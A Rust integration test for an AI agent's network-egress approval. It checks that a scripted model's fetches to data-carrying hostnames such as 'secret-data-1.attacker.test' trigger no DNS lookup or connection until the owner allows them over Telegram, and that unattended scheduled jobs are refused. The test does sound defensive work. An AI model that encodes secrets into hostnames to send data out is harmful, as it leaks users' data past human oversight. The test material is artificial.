//! No name leaves before the decision: the real `nexbot serve` runs with a recording name
//! server as its only resolver (its own mount namespace and `resolv.conf`,
//! `nexbot_tests::dns`), in `egress.mode = "ask"`, with the real pool, proxy, Telegram fixture
//! and scripted model. A lookup is itself a message to whoever serves the name, so a task
//! asking for `<data>.attacker.test` must cause no query unless the destination was allowed.

use std::collections::HashMap;
use std::net::IpAddr;

use crate::common::{Serving, TempWorkspace};
use crate::egress_support;
use crate::host_approvals::{
    ask_env, ctl, fetching_model, host, press, results_when, wait_question,
};
use crate::telegram::{has_text, LIMIT, OWNER};

use nexbot_control::{cron_paths, CronAdd, CronJob};
use nexbot_tests::dns::{in_own_resolver, loopback_for, DnsRecorder};
use nexbot_tests::scripted_llm::ScriptedLlm;
use nexbot_tests::telegram::{BotMessage, TelegramFixture};
use serde_json::Value;

use crate::common::Leftovers;

/// The name the recorder answers (with the test server's address).
const ALLOWED: &str = "allowed.nexbot.test";
/// The attacker's zone: no query under it may ever be sent.
const ATTACKER: &str = ".attacker.test";

/// Refused by a press, unanswered (CONNECT, for `https://`), then allowed: the refused and
/// unanswered names are never looked up, the allowed one only after the press; a scheduled
/// job's refused fetches (nobody to ask) look nothing up either.
#[tokio::test]
async fn a_name_is_looked_up_only_after_its_destination_is_allowed() {
    let Some(_docker) = nexbot_tests::docker_or_skip("egress_dns").await else { return };
    let tg = TelegramFixture::start().await;
    let (server, seen) = egress_support::http_server_at(host()).await;
    let IpAddr::V4(server_ip) = server.ip() else { panic!("the test server has IPv4: {server}") };
    let dns =
        DnsRecorder::start(loopback_for(1), HashMap::from([(ALLOWED.into(), server_ip)])).await;
    let llm = ScriptedLlm::start(vec![]).await;
    let urls = vec![
        "http://secret-data-1.attacker.test/x".to_owned(),
        "https://secret-data-2.attacker.test/".to_owned(),
        format!("http://{ALLOWED}:{}/hello", server.port()),
    ];
    let results = fetching_model(&llm, "collect three pages", urls);
    let ws = TempWorkspace::init("egress-dns");
    let names = Leftovers::new("egdns");
    let mut env = ask_env(&llm, &tg, &names, &[server]);
    env.push(("NEXBOT_EGRESS__APPROVAL_TIMEOUT_SECS".into(), "3".into()));
    let program = in_own_resolver(&ws.dir, dns.addr(), std::path::Path::new(crate::common::NEXBOT));
    let serving = Serving::start_program(&program, &ws.config(), &env, LIMIT).await;
    serving.wait_log("the Telegram channel is on", LIMIT).await;
    tg.user_says(OWNER, OWNER, "collect them").await;

    // Plain HTTP, asked before anything is looked up; denied.
    let first = wait_question(&tg, OWNER, 0).await;
    assert!(first.text.contains("secret-data-1.attacker.test:80"), "{}", first.text);
    assert_eq!(dns.asked_under(ATTACKER), Vec::<String>::new(), "looked up before the question");
    tg.user_clicks(OWNER, OWNER, first.message_id, &press(&first, "Deny")).await;
    // CONNECT, asked too; nobody answers.
    let second = wait_question(&tg, OWNER, 1).await;
    assert!(second.text.contains("secret-data-2.attacker.test:443"), "{}", second.text);
    // The allowed name: still not looked up while the question waits; then allowed once.
    let third = wait_question(&tg, OWNER, 2).await;
    assert!(third.text.contains(ALLOWED), "{}", third.text);
    assert_eq!(dns.asked_under(ALLOWED), Vec::<String>::new(), "looked up before the answer");
    tg.user_clicks(OWNER, OWNER, third.message_id, &press(&third, "Allow once")).await;

    let got = results_when(&results, 3).await;
    let said: Vec<String> = got.iter().map(Value::to_string).collect();
    assert!(said[0].contains("denied by the user"), "{}", said[0]);
    // A refused tunnel reads as a failed connect to reqwest; the question says why.
    assert!(said[1].contains("Connect") && !said[1].contains("hello"), "{}", said[1]);
    assert!(said[2].contains("hello from the allowed server"), "{}", said[2]);
    assert_eq!(seen.lock().unwrap().len(), 1);
    let messages = tg.wait_bot_messages(OWNER, |m| has_text(m, "done with the task"), LIMIT).await;
    let second = messages.iter().find(|m| m.message_id == second.message_id).unwrap();
    assert!(second.text.contains("no answer"), "{}", second.text);
    assert_eq!(dns.asked_under(ATTACKER), Vec::<String>::new(), "a refused name was looked up");
    let allowed = dns.asked_under(ALLOWED);
    assert!(!allowed.is_empty(), "the allowed name was looked up: {:?}", dns.asked());
    assert!(allowed.iter().all(|n| n == ALLOWED), "only its own name: {allowed:?}");

    // A scheduled job has nobody to ask (egress.unattended = "deny"): its fetches are refused
    // without a question and without a lookup, the allowed name's too.
    let before = dns.asked().len();
    results.lock().unwrap().clear();
    let job = CronAdd {
        chat: format!("telegram:{OWNER}"),
        task: "collect three pages for the job".into(),
        at: Some("in 1s".into()),
        ..CronAdd::default()
    };
    let _: CronJob = ctl(&ws).post(cron_paths::CRON, &job).await.unwrap();
    let got = results_when(&results, 3).await;
    let said: Vec<String> = got.iter().map(Value::to_string).collect();
    for plain in [&said[0], &said[2]] {
        assert!(plain.contains("nobody to ask"), "{plain}");
    }
    assert!(said[1].contains("Connect") && !said[1].contains("hello"), "{}", said[1]);
    let done =
        |m: &[BotMessage]| m.iter().filter(|m| m.text.contains("done with the task")).count() >= 2;
    tg.wait_bot_messages(OWNER, done, LIMIT * 2).await;
    assert_eq!(dns.asked()[before..].to_vec(), Vec::<String>::new(), "the job looked names up");
    assert_eq!(seen.lock().unwrap().len(), 1, "the job's fetch never reached the server");
    serving.stop(LIMIT).await;
}
